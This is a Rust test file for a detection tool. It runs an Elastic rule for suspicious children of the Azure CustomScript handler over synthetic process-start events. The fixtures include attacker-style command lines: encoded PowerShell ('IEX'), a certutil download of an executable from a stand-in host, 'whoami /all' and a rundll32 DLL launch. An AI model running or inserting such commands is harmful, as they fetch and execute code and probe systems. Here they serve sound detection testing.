//! Elastic's "Suspicious Child Process via Azure VM CustomScript Extension" (PR #6277, EQL
//! `sequence by host.id with maxspan=1m … by process.entity_id … by process.Ext.ancestry`),
//! verbatim, over endpoint scenarios written here: Elastic Defend documents, and Sysmon records
//! whose lineage Vigil rebuilds.

mod common;

use std::collections::BTreeSet;

use common::{TempFile, parse_ndjson, seed_rule, vigil};
use serde_json::{Value, json};

const RULE: &str = "execution_azure_customscript_extension_suspicious_descendant.toml";
const HANDLER: &str = r"C:\Packages\Plugins\Microsoft.Compute.CustomScriptExtension\1.10.15\bin\CustomScriptHandler.exe";

fn at(secs: i64) -> String {
    let t: jiff::Timestamp = "2026-06-17T10:00:00Z".parse().expect("time");
    (t + jiff::SignedDuration::from_secs(secs))
        .strftime("%Y-%m-%dT%H:%M:%S%.3fZ")
        .to_string()
}

/// An Elastic Defend process start. `ancestry` is parent first.
fn defend(host: &str, secs: i64, entity: &str, ancestry: &[&str], exe: &str, cmd: &str) -> Value {
    let name = exe.rsplit('\\').next().unwrap_or(exe);
    let args: Vec<&str> = cmd.split(' ').collect();
    json!({
        "@timestamp": at(secs),
        "agent": {"type": "endpoint"},
        "data_stream": {"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"},
        "event": {"category": ["process"], "type": ["start"], "action": "start", "kind": "event",
                  "dataset": "endpoint.events.process", "module": "endpoint"},
        "host": {"id": host, "name": host, "os": {"type": "windows", "family": "windows"}},
        "process": {
            "entity_id": entity,
            "name": name,
            "executable": exe,
            "command_line": cmd,
            "args": args,
            "parent": {"entity_id": ancestry.first().copied().unwrap_or("")},
            "Ext": {"ancestry": ancestry},
        },
        "user": {"name": "SYSTEM"}
    })
}

/// A Sysmon Event ID 1 record as the EVTX reader gives it (no ancestry, no host id).
fn sysmon(
    computer: &str,
    secs: i64,
    guid: &str,
    pid: i64,
    image: &str,
    cmd: &str,
    parent: (&str, i64, &str),
) -> Value {
    let utc = at(secs).replace('T', " ").trim_end_matches('Z').to_string();
    json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
            "EventID": 1, "Computer": computer, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventRecordID": pid,
        },
        "EventData": {
            "UtcTime": utc, "ProcessGuid": guid, "ProcessId": pid.to_string(), "Image": image,
            "CommandLine": cmd, "User": "NT AUTHORITY\\SYSTEM",
            "ParentProcessGuid": parent.0, "ParentProcessId": parent.1.to_string(), "ParentImage": parent.2,
        }
    }})
}

fn scenario() -> Vec<Value> {
    let exp = r"C:\Windows\explorer.exe";
    let cmd = r"C:\Windows\System32\cmd.exe";
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let enc = "powershell.exe -NoProfile -EncodedCommand SQBFAFgA";
    let mut out = vec![
        // host-a: handler → cmd → encoded PowerShell 20 s later: alert.
        defend(
            "host-a",
            300,
            "a-h",
            &["a-agent"],
            HANDLER,
            "CustomScriptHandler.exe",
        ),
        defend(
            "host-a",
            310,
            "a-cmd",
            &["a-h", "a-agent"],
            cmd,
            "cmd.exe /c run.cmd",
        ),
        defend("host-a", 320, "a-ps", &["a-cmd", "a-h", "a-agent"], ps, enc),
        // host-a: the same PowerShell under explorer.exe: no alert.
        defend("host-a", 900, "a-exp", &[], exp, "explorer.exe"),
        defend("host-a", 905, "a-ps2", &["a-exp"], ps, enc),
    ];
    // host-b: a handler known only by its path (no process.name) → whoami.exe: alert.
    let mut handler_b = defend(
        "host-b",
        1200,
        "b-h",
        &["b-agent"],
        HANDLER,
        "CustomScriptHandler.exe",
    );
    handler_b["process"]
        .as_object_mut()
        .expect("object")
        .remove("name");
    out.push(handler_b);
    out.push(defend(
        "host-b",
        1230,
        "b-who",
        &["b-h", "b-agent"],
        r"C:\Windows\System32\whoami.exe",
        "whoami.exe /all",
    ));
    // host-c: benign children of the handler: no alert.
    out.push(defend(
        "host-c",
        1800,
        "c-h",
        &[],
        HANDLER,
        "CustomScriptHandler.exe",
    ));
    out.push(defend(
        "host-c",
        1810,
        "c-np",
        &["c-h"],
        r"C:\Windows\notepad.exe",
        "notepad.exe",
    ));
    out.push(defend(
        "host-c",
        1820,
        "c-ps",
        &["c-h"],
        ps,
        r"powershell.exe -ExecutionPolicy Bypass -File C:\setup\install.ps1",
    ));
    // host-d: certutil -urlcache two minutes after the handler: beyond maxspan, no alert.
    out.push(defend(
        "host-d",
        2400,
        "d-h",
        &[],
        HANDLER,
        "CustomScriptHandler.exe",
    ));
    out.push(defend(
        "host-d",
        2520,
        "d-cu",
        &["d-h"],
        r"C:\Windows\System32\certutil.exe",
        "certutil.exe -urlcache -f http://x/a a.exe",
    ));
    // vm-e (Sysmon): handler → cmd → rundll32: alert, through the rebuilt ancestry.
    out.push(sysmon(
        "vm-e",
        3000,
        "{E1}",
        100,
        HANDLER,
        "CustomScriptHandler.exe",
        ("{E0}", 50, r"C:\WindowsAzure\GuestAgent\WaAppAgent.exe"),
    ));
    out.push(sysmon(
        "vm-e",
        3005,
        "{E2}",
        101,
        cmd,
        "cmd.exe /c x.cmd",
        ("{E1}", 100, HANDLER),
    ));
    out.push(sysmon(
        "vm-e",
        3020,
        "{E3}",
        102,
        r"C:\Windows\System32\rundll32.exe",
        "rundll32.exe x.dll,Run",
        ("{E2}", 101, cmd),
    ));
    // vm-f (Sysmon): encoded PowerShell under explorer.exe: no alert.
    out.push(sysmon(
        "vm-f",
        3100,
        "{F1}",
        200,
        exp,
        "explorer.exe",
        ("{F0}", 10, r"C:\Windows\System32\userinit.exe"),
    ));
    out.push(sysmon(
        "vm-f",
        3110,
        "{F2}",
        201,
        ps,
        enc,
        ("{F1}", 200, exp),
    ));
    out
}

#[test]
fn alerts_on_suspicious_descendants_of_the_handler_only() {
    let Some(rule) = seed_rule(RULE) else { return };
    let mut text = String::new();
    for doc in scenario() {
        text.push_str(&doc.to_string());
        text.push('\n');
    }
    let input = TempFile::with_bytes("ndjson", text.as_bytes());
    let out = vigil(&[
        "hunt",
        "--rules",
        rule.to_str().expect("utf-8"),
        "--format",
        "ndjson",
        input.0.to_str().expect("utf-8"),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let alerts = parse_ndjson(&out.stdout);

    let (blocks, shells): (Vec<&Value>, Vec<&Value>) = alerts
        .iter()
        .partition(|a| a.get("kibana.alert.building_block_type").is_some());
    let hosts: BTreeSet<&str> = shells
        .iter()
        .filter_map(|a| a["host"]["id"].as_str())
        .collect();
    assert_eq!(
        hosts,
        BTreeSet::from(["host-a", "host-b", "vm-e"]),
        "{alerts:#?}"
    );
    assert_eq!(
        shells.len(),
        3,
        "one alert per sequence, even across overlapping runs"
    );
    assert_eq!(
        blocks.len(),
        6,
        "one building block per event of each sequence"
    );

    for shell in &shells {
        let group = shell["kibana.alert.group.id"].as_str().expect("group id");
        assert_eq!(shell["kibana.alert.uuid"], group);
        assert_eq!(shell["kibana.alert.rule.type"], "eql");
        let mut members: Vec<&&Value> = blocks
            .iter()
            .filter(|b| b["kibana.alert.group.id"] == group)
            .collect();
        members.sort_by_key(|b| b["kibana.alert.group.index"].as_i64());
        assert_eq!(members.len(), 2);
        // The handler first, then its descendant, in the group's order.
        let names: Vec<&str> = members
            .iter()
            .map(|b| b["process"]["executable"].as_str().unwrap_or("?"))
            .collect();
        assert!(names[0].ends_with("CustomScriptHandler.exe"), "{names:?}");
        assert!(!names[1].ends_with("CustomScriptHandler.exe"), "{names:?}");
        assert_eq!(members[0]["kibana.alert.group.index"], 0);
        assert_eq!(members[1]["kibana.alert.group.index"], 1);
    }
    // The Sysmon descendant was found through the ancestry Vigil rebuilt.
    let rundll = blocks
        .iter()
        .find(|b| b["process"]["name"] == "rundll32.exe")
        .expect("rundll32 building block");
    assert_eq!(
        rundll["process"]["Ext"]["ancestry"],
        json!(["{E2}", "{E1}", "{E0}"])
    );
}
